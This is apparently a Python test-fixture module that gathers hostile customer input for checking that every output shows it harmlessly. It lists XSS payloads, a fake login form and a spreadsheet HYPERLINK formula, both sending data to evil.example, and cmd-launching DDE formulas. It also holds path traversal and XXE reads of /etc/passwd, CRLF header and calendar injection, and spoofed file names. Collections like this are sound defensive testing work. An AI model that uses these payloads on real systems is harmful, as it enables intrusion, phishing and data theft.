"""What a hostile customer writes, in words, names, file names and attachments: every output must show it harmlessly."""

from __future__ import annotations

SCRIPT = "<script>alert('onrecord')</script>"
LONG = 1_000_000

WORDS = {
    "script": SCRIPT,
    "script in pieces": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "event handler": '<img src=x onerror="alert(1)"> <svg/onload=alert(1)>',
    "javascript link": "[click](javascript:alert(1)) <javascript:alert(1)> javascript:alert(1)",
    "javascript link in disguise": (
        "[a](java\tscript:alert(1)) [b](&#106;avascript&#58;alert(1)) [c](JaVaScRiPt:alert(1)) [d](\x01javascript:alert(1))"
    ),
    "data link": "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) ![b](data:image/svg+xml,<svg/onload=alert(1)>)",
    "link by definition": '[a][1]\n\n[1]: javascript:alert(1) "x"',
    "other host's link": "[a](//evil.example/x) [b](\\\\evil.example\\x) [c](https:evil.example)",
    "attribute": "\"><b onmouseover=alert(1)>x</b> ' onfocus=alert(1) autofocus='",
    "address with a quote": 'https://example.com/"onmouseover="alert(1) http://a.example/\'><script>alert(1)</script>',
    "end of a text area": "</textarea></title></style></script></template></noscript><script>alert(1)</script>",
    "end of a comment": "--><script>alert(1)</script><!-- ]]><script>alert(1)</script>",
    "style": "<style>*{display:none}</style><b style='position:fixed;inset:0'>x</b>",
    "form": '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
    "frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data=x></object><base href="//evil.example/">',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "template": "{{ 7 * 7 }} {% for x in y %} ${7*7} #{7*7} <%= 7*7 %>",
    "formula": '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "formula with plus": "+1+cmd|' /C calc'!A0",
    "formula with minus": "-2+3+cmd|' /C calc'!A0",
    "formula with at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula after a tab": "\t=1+1",
    "formula after a carriage return": "\r=1+1",
    "bidirectional override": "invoice_\u202excod.exe \u2066hidden\u2069 \u202aembedded\u202c",
    "invisible": "pass\u200bword \u00ad\u2060\ufeff \U000e0041\U000e0042 a\ufe0f\ufe01\ufe02",
    "controls": "bell\x07 escape\x1b[31m null\x00 next line\x85 separator\u2028 paragraph\u2029 delete\x7f",
    "surrogate": "half a pair \ud83d and \udc00",
    "not a character": "\ufffe \uffff \ufdd0 \U0001ffff",
    "way up": "../../../etc/passwd ..\\..\\windows\\system32 %2e%2e%2f /etc/passwd",
    "header": "subject\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
    "calendar line": "text\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:forged\nATTACH:https://evil.example",
    "json": '"},"@type":"Organization","name":"forged</script><script>alert(1)</script>',
    "xml": '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x><![CDATA[x]]>',
    "placeholder": "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03 \x02106\x03 wzxhzdk:0 klzzwxh:0000",
    "combining": "Z\u0351\u036b\u0343" * 50,
    "heading": "# not a heading\n=====\n> not a quote\n- not a list\n    not code",
}
"""Words by what is wrong with them."""

NAMES = {
    "way up": "../../../etc/passwd",
    "way up on Windows": "..\\..\\boot.ini",
    "absolute": "/etc/passwd",
    "drive": "C:\\autoexec.bat",
    "hidden": ".htaccess",
    "only dots": "..",
    "empty": "",
    "page": "index.html",
    "script": "x.svg.js",
    "two endings": "photo.png.html",
    "null": "photo.png\x00.html",
    "override": "photo_\u202egnp.exe",
    "line": "a\r\nContent-Type: text/html",
    "quote": '"><script>alert(1)</script>.png',
    "device": "CON.txt",
    "long": "a" * 5000 + ".txt",
    "surrogate": "\ud800.txt",
}
"""Names of files, and slugs."""

SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
PAGE = b"<!doctype html><script>alert(1)</script>"
PICTURE_AND_PAGE = (
    b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
    + PAGE
)


def endless(unit: str, length: int = LONG) -> str:
    """A text of a length that is nothing but one unit."""
    return (unit * (length // len(unit) + 1))[:length]


ENDLESS = (
    "[", "]", "![", "[a](", "[a][", "](", "(", "<", ">", "*", "**a", "**", "`", "`a|", "|", "\\", "\\[", "&", "&#", "#", "```",
    "~~~", "<!--", "<a", "<![CDATA[", "http://", "\"", "'", "a", "é", "…", "-", "=", "_", "1.", "\x00", "\u202e",
    "\u200d", "\u200f", "\ufe0f", "\U000e0041", "\U0001f3f4", "\ud800", "\n", "\n\n", " ", "\r", "    ", "> ", "> a\n",
    "_a ", "` ``", "```\n", "``` a='\n", "~~~a\n", "# a\n", "a\n-\n", "-\n", "=\n", "- ", "- a\n", "1. ", "1. a\n",
    "\t- a\n", "|a`|\n", "|-|\n", "[a]: b\n", "[a]:\n", "[a] ", "[a](b) ", "*a* ", "a.b ", "a. ", "http://a.b/c) ",
    "https://a.b/))))))", "\u202e\u200d",
)  # fmt: skip
"""Units that are harmless once and, a million characters long, have brought parsers down."""
